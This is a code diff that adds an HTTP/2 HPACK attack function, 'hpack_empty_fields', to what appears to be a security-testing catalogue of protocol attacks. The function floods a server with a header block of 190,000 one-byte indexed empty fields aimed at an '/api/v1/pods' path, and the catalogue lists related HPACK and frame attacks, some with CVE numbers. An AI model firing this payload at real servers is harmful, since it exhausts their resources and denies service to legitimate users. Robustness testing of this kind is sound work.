@@ -161,6 +161,14 @@ def hpack_bomb(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
         yield request_frames(connection.stream(), block)
 
 
+def hpack_empty_fields(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
+    """A stranger's block of 190,000 fields of one byte each: nothing, named again and again."""
+    attacker.counts.requests += 1
+    block = hpack_codec.block(attacker.head("/api/v1/pods")) + indexed(b"", b"")
+    yield request_frames(connection.stream(), block + b"\xbe" * 190_000)
+    connection.drain(0.2)
+
+
 def hpack_integers(attacker: Attacker, connection: Http2) -> Iterator[bytes]:
     """CVE-2026-59980: an integer whose bytes do not end."""
     while True:
@@ -252,6 +260,12 @@ ATTACKS: tuple[Attack, ...] = (
     _user("window-updates", "D4", "updates of one byte", window_updates),
     _user("unknown-frames", "D4", "frames of no known kind", unknown_frames),
     _user("hpack-bomb", "D3", "a table's entry named 8,000 times (CVE-2016-6581)", hpack_bomb),
+    _user(
+        "hpack-empty-fields",
+        "D3, 15",
+        "a stranger's blocks of 190,000 empty fields",
+        hpack_empty_fields,
+    ),
     _user("hpack-integers", "D3", "integers without an end (CVE-2026-59980)", hpack_integers),
     _user("hpack-table-sizes", "D3", "thousands of size updates in a block", hpack_table_sizes),
     _user("broken-blocks", "D3", "a stranger's blocks that end within a field", broken_blocks),
